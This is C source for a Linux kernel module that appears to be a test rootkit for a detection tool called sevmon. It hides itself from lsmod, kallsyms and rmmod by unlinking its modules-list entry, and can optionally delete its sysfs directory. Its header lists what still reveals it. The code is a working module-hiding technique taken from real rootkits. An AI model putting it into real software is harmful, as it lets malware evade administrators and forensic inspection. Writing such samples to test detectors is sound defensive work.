// SPDX-License-Identifier: GPL-2.0
/*
 * rk_hide_module: a module that hides itself (the Diamorphine / Reptile technique).
 *
 * At load it unlinks THIS_MODULE->list from the kernel's `modules` list, which is what
 * /proc/modules (lsmod), /proc/kallsyms (module symbols) and find_module() (rmmod) walk.
 * With hide_sysfs=1 it also deletes its kobject, so /sys/module/rk_hide_module goes too.
 *
 * Still visible: the module's memory (vmalloc'ed, /proc/vmallocinfo), its entry in mod_tree
 * (the latched rb-tree behind __module_address(): stack traces and %pS still name it), the
 * taint it set, and its dmesg lines. A delayed work prints a line one second after hiding,
 * to show that its code keeps running.
 *
 * Unloading: a hidden module cannot be removed (rmmod cannot find it: ENOENT). With
 * hide_sysfs=0, writing 1 to /sys/module/rk_hide_module/parameters/unhide puts it back on the
 * list (at the head, where a fresh load would be); then rmmod works. With hide_sysfs=1 there
 * is no way back: the module stays until reboot.
 */
#include <linux/kobject.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/mutex.h>
#include <linux/rculist.h>
#include <linux/workqueue.h>
#include "rk_common.h"

static bool hide_sysfs;
module_param(hide_sysfs, bool, 0444);
MODULE_PARM_DESC(hide_sysfs, "also remove /sys/module/rk_hide_module (then never unloadable)");

static struct list_head *modules_head;	/* the kernel's static LIST_HEAD(modules) */
static struct mutex *modules_mutex;	/* module_mutex, guards that list */
static bool hidden;

static void rk_alive(struct work_struct *w)
{
	pr_info("rk_hide_module: still running while %s\n", hidden ? "hidden" : "visible");
}
static DECLARE_DELAYED_WORK(rk_alive_work, rk_alive);

static int rk_unhide_set(const char *val, const struct kernel_param *kp)
{
	bool on;
	int err = kstrtobool(val, &on);

	if (err)
		return err;
	if (!on || !hidden)
		return 0;
	mutex_lock(modules_mutex);
	list_add_rcu(&THIS_MODULE->list, modules_head);
	hidden = false;
	mutex_unlock(modules_mutex);
	pr_info("rk_hide_module: back on the modules list\n");
	return 0;
}

static int rk_unhide_get(char *buf, const struct kernel_param *kp)
{
	return sprintf(buf, "%d\n", !hidden);
}

static const struct kernel_param_ops rk_unhide_ops = {
	.set = rk_unhide_set,
	.get = rk_unhide_get,
};
module_param_cb(unhide, &rk_unhide_ops, NULL, 0644);
MODULE_PARM_DESC(unhide, "write 1 to put the module back on the modules list (hide_sysfs=0 only)");

/* Is HEAD on the circular list that ENTRY is on? (checks that kallsyms gave us the right one) */
static bool rk_on_list(struct list_head *entry, struct list_head *head)
{
	struct list_head *p;
	int n = 0;

	for (p = entry->next; p != entry && n < 100000; p = p->next, n++)
		if (p == head)
			return true;
	return false;
}

static int __init rk_init(void)
{
	modules_head = (struct list_head *)rk_lookup("modules");
	modules_mutex = (struct mutex *)rk_lookup("module_mutex");
	if (!modules_head || !modules_mutex) {
		pr_err("rk_hide_module: modules/module_mutex not found via kallsyms\n");
		return -ENOENT;
	}
	mutex_lock(modules_mutex);
	if (!rk_on_list(&THIS_MODULE->list, modules_head)) {
		mutex_unlock(modules_mutex);
		pr_err("rk_hide_module: kallsyms 'modules' is not the modules list head\n");
		return -EINVAL;
	}
	/* RCU readers (kallsyms, module lookups) may be walking the list: _rcu keeps ->next valid. */
	list_del_rcu(&THIS_MODULE->list);
	hidden = true;
	mutex_unlock(modules_mutex);
	if (hide_sysfs)
		kobject_del(&THIS_MODULE->mkobj.kobj);
	pr_info("rk_hide_module: hidden from the modules list%s\n",
		hide_sysfs ? " and /sys/module" : "");
	schedule_delayed_work(&rk_alive_work, HZ);
	return 0;
}

static void __exit rk_exit(void)
{
	cancel_delayed_work_sync(&rk_alive_work);
	pr_info("rk_hide_module: unloaded\n");
}

module_init(rk_init);
module_exit(rk_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("sevmon test rootkit: hides itself from the module list (and sysfs)");
